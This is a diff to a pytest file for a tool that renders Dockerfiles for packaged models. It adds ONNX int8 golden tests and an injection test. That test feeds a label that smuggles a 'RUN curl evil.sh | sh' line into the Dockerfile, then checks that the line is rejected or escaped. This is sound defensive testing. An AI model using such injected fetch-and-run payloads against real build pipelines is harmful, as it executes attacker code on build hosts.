@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import os
 import shutil
@@ -12,7 +13,7 @@ import zipfile
 import pytest
 
 from packager.errors import UserInputError
-from packager.render import AdapterInput, RenderRequest, render_files, write_context
+from packager.render import AdapterInput, RenderRequest, render_files, runtime_config, write_context
 
 GOLDEN = os.path.join(os.path.dirname(__file__), "golden")
 LOCK = {
@@ -38,6 +39,12 @@ SHARED = RenderRequest(
     served_name="shared",
 )
 WEIGHTS = ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"]
+ONNX_INT8 = dataclasses.replace(
+    BAKED,
+    quantization="onnx-int8",
+    backend="onnx",
+    accuracy='{"greedy":0.95,"kind":"onnx-int8","size_ratio":0.26,"top1":0.97}',
+)
 
 
 def _golden(name: str, text: str) -> None:
@@ -49,12 +56,29 @@ def _golden(name: str, text: str) -> None:
         assert text == f.read(), f"{name} differs from its golden file (UPDATE_GOLDEN=1 rewrites it after review)"
 
 
-@pytest.mark.parametrize(("request_", "prefix"), [(BAKED, "baked"), (SHARED, "shared")])
+@pytest.mark.parametrize(
+    ("request_", "prefix"), [(BAKED, "baked"), (SHARED, "shared"), (ONNX_INT8, "baked-onnx-int8")]
+)
 def test_rendered_files_match_golden(request_, prefix) -> None:
-    files = render_files(request_, WEIGHTS if prefix == "baked" else [])
+    files = render_files(request_, WEIGHTS if prefix.startswith("baked") else [])
     for name, text in files.items():
         _golden(f"{prefix}.{name.lstrip('.')}", text)
     assert set(files) == ({"Dockerfile", ".dockerignore"} | ({"compose.yaml"} if prefix == "shared" else set()))
+
+
+def test_runtime_is_told_how_to_load_the_artefact() -> None:
+    assert runtime_config(ONNX_INT8)["backend"] == "onnx"
+    assert runtime_config(dataclasses.replace(SHARED, load_quantization="bnb-nf4"))["load_quantization"] == "bnb-nf4"
+    with pytest.raises(UserInputError, match="unknown runtime backend"):
+        render_files(dataclasses.replace(BAKED, backend="tensorrt"), WEIGHTS)
+
+
+def test_accuracy_label_cannot_inject_instructions() -> None:
+    with pytest.raises(UserInputError, match="newline"):
+        render_files(dataclasses.replace(ONNX_INT8, accuracy='{"a":1}"\nRUN curl evil.sh | sh\n#'), WEIGHTS)
+    quoted = dataclasses.replace(ONNX_INT8, accuracy='x" \\ RUN curl $HOME')
+    dockerfile = render_files(quoted, WEIGHTS)["Dockerfile"]
+    assert r'io.packager.accuracy="x\" \\ RUN curl \$HOME"' in dockerfile
 
 
 def test_weights_come_before_runtime_one_layer_each() -> None:
